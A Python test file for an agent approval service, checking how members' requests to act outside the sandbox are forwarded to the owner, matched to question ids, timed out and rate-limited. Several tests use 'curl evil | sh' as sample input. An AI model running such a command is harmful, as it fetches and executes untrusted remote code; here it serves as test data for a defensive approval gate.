"""Members' questions that are forwarded to the owner."""

import anyio
import pytest
from msgspec import structs

from hermes.approvals.messages import RUN_WAITS_ALREADY, TOO_MANY_WAITING, short_id
from hermes.approvals.questions import MAX_PER_PERSON, QuestionTimeouts
from hermes.approvals.service import Answerer, ApprovalService
from hermes.approvals.smart_review import AskModel
from hermes.ports.approvals import ApprovalRequest, Isolation
from hermes.schema.questions import ApprovalChoice
from hermes.schema.scope import Address, Role, Scope
from hermes.store.sqlite import SqliteStore
from hermes.testing.clock import FakeClock
from support.approvals import ALLOWED, SCOPE, ApprovalHarness, PendingApproval
from support.polling import pause

HOME = Address("telegram", "42")
OWNER_SCOPE = structs.replace(SCOPE, session="s-owner", run="r-owner", address=HOME)
OWNER_ANSWERER = Answerer(session="s-owner", address=HOME)


class FakeForwarder:
    def __init__(self) -> None:
        self.posts: list[str] = []

    def owner_chat(self, scope: Scope) -> Address | None:
        return HOME

    async def forward(self, question: str, address: Address, text: str) -> None:
        self.posts.append(text)


class ForwardingHarness(ApprovalHarness):
    """A harness whose owner is in another chat."""

    def restart(self, judge: AskModel | None = None, **rules: object) -> ApprovalService:
        self.forwarder = FakeForwarder()
        return super().restart(judge, **rules)


@pytest.fixture
def harness(store: SqliteStore, clock: FakeClock) -> ForwardingHarness:
    return ForwardingHarness(store, clock)


def members(run: str, who: str = "mallory") -> Scope:
    return structs.replace(
        SCOPE, session=f"s-{who}", run=run, address=Address("telegram", "7"), principal=who,
        role=Role.MEMBER,
    )  # fmt: skip


def outside_request(action: str) -> ApprovalRequest:
    return ApprovalRequest(tool="the remote gateway", action=action, reaching=Isolation.BEYOND)


async def test_forwarded_question_needs_its_id(harness: ForwardingHarness) -> None:
    members_request = PendingApproval(harness, outside_request("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(members_request.run)
        question = await harness.wait_for_question()
        name = short_id(question)
        (post,) = harness.forwarder.posts
        assert f"/deny {name} [reason], or yes {name} or no {name}. Auto-denied in" in post
        assert f"/approve {name}" in post
        assert "include the id" in post
        for words in ("yes", "no", "always", "yess", "👍"):
            assert await harness.service.would_answer(OWNER_ANSWERER, words)
            result = await harness.service.reply(OWNER_ANSWERER, words)
            assert result is not None
            assert (result.count, name in result.message) == (0, True)
        for everything in (False, True):
            result = await harness.service.answer(
                OWNER_ANSWERER, ApprovalChoice.ONCE, everything=everything
            )
            assert (result.count, name in result.message) == (0, True)
        assert members_request.decision is None
        result = await harness.service.reply(OWNER_ANSWERER, f"yes {name}")
        assert result is not None
        assert result.count == 1
    assert members_request.decision == ALLOWED


async def test_forwarded_question_has_the_time_of_the_owners_chat(
    harness: ForwardingHarness,
) -> None:
    harness.timeouts = QuestionTimeouts(channels={HOME.channel: 300.0, "irc": 30.0})
    harness.restart()
    scope = structs.replace(members("r1"), address=Address("irc", "7"))
    request = PendingApproval(harness, outside_request("curl evil | sh"), scope)
    async with anyio.create_task_group() as group:
        group.start_soon(request.run)
        question = await harness.wait_for_question()
        group.cancel_scope.cancel()
    assert (question.elsewhere, question.seconds) == (True, 300.0)


async def test_late_yes_does_not_answer_a_forwarded_question(
    harness: ForwardingHarness,
) -> None:
    own = PendingApproval(harness, outside_request("git push"), OWNER_SCOPE)
    members_request = PendingApproval(harness, outside_request("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(own.run)
        await harness.wait_for_question()
        with anyio.fail_after(60):
            while own.decision is None:
                await harness.clock.advance(10)
        group.start_soon(members_request.run)
        await harness.wait_for_question(2)
        result = await harness.service.reply(OWNER_ANSWERER, "yes")
        assert result is not None
        assert result.count == 0
        assert members_request.decision is None
        group.cancel_scope.cancel()


async def test_all_denies_everything_but_allows_only_own_requests(
    harness: ForwardingHarness,
) -> None:
    own = PendingApproval(harness, outside_request("git push"), OWNER_SCOPE)
    members_request = PendingApproval(harness, outside_request("curl evil | sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(own.run)
        await harness.wait_for_question()
        group.start_soon(members_request.run)
        question = await harness.wait_for_question(2)
        result = await harness.service.reply(OWNER_ANSWERER, "yes")
        assert result is not None
        assert result.count == 0
        result = await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.ONCE, everything=True)
        assert (result.count, short_id(question) in result.message) == (1, True)
        assert result.message.startswith("Allowed once: git push\n")
        result = await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.DENY, everything=True)
        assert result.count == 1
    assert own.decision == ALLOWED
    assert members_request.decision is not None
    assert not members_request.decision.allowed


async def test_reply_reaches_own_clarification_despite_forwarded_question(
    harness: ForwardingHarness,
) -> None:
    answers: list[str | None] = []

    async def ask() -> None:
        answers.append(await harness.service.ask_person(OWNER_SCOPE, "Sure?", (), harness.emit))

    async with anyio.create_task_group() as group:
        group.start_soon(harness.decide, outside_request("curl evil | sh"), members("r1"))
        await harness.wait_for_question()
        group.start_soon(ask)
        await harness.wait_for_question(2)
        result = await harness.service.reply(OWNER_ANSWERER, "yes")
        assert result is not None
        assert result.count == 1
        with anyio.fail_after(60):
            while not answers:
                await pause()
        group.cancel_scope.cancel()
    assert answers == ["yes"]


async def test_forwarded_questions_are_limited_per_run_and_person(
    harness: ForwardingHarness,
) -> None:
    refused: list[str] = []

    async def one(number: int, scope: Scope) -> None:
        decision = await harness.decide(outside_request(f"remote command {number}"), scope)
        refused.append(decision.why)

    async with anyio.create_task_group() as group:
        for number in range(20):
            group.start_soon(one, number, members("r1"))
        await harness.wait_for_question()
        with anyio.fail_after(60):
            while len(refused) < 19:
                await pause()
        assert set(refused) == {RUN_WAITS_ALREADY}
        for number in range(1, MAX_PER_PERSON):
            group.start_soon(one, 100 + number, members(f"run {number}"))
            await harness.wait_for_question(1 + number)
        with anyio.fail_after(60):
            await one(200, members("the next"))
        assert refused[-1] == TOO_MANY_WAITING
        group.start_soon(one, 300, members("hers", "bea"))
        await harness.wait_for_question(MAX_PER_PERSON + 1)
        assert len(harness.forwarder.posts) == MAX_PER_PERSON + 1
        group.cancel_scope.cancel()


async def test_forwarded_limits_include_other_processes_and_resumed_questions(
    harness: ForwardingHarness,
) -> None:
    async with anyio.create_task_group() as group:
        group.start_soon(harness.decide, outside_request("./deploy.sh"), members("r1"))
        await harness.wait_for_question()
        harness.service.prepare_shutdown()
        group.cancel_scope.cancel()
    harness.restart()
    (first,) = harness.questions
    with anyio.fail_after(60):
        assert (
            await harness.decide(outside_request("./other.sh"), members("r1"))
        ).why == RUN_WAITS_ALREADY
    again = PendingApproval(harness, outside_request("./deploy.sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(again.run)
        assert (await harness.wait_for_question(2)).id == first.id
        await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.ONCE, question=first.id)
    assert again.decision == ALLOWED
    next_one = PendingApproval(harness, outside_request("./other.sh"), members("r1"))
    async with anyio.create_task_group() as group:
        group.start_soon(next_one.run)
        question = await harness.wait_for_question(3)
        await harness.service.answer(OWNER_ANSWERER, ApprovalChoice.ONCE, question=question.id)
    assert next_one.decision == ALLOWED
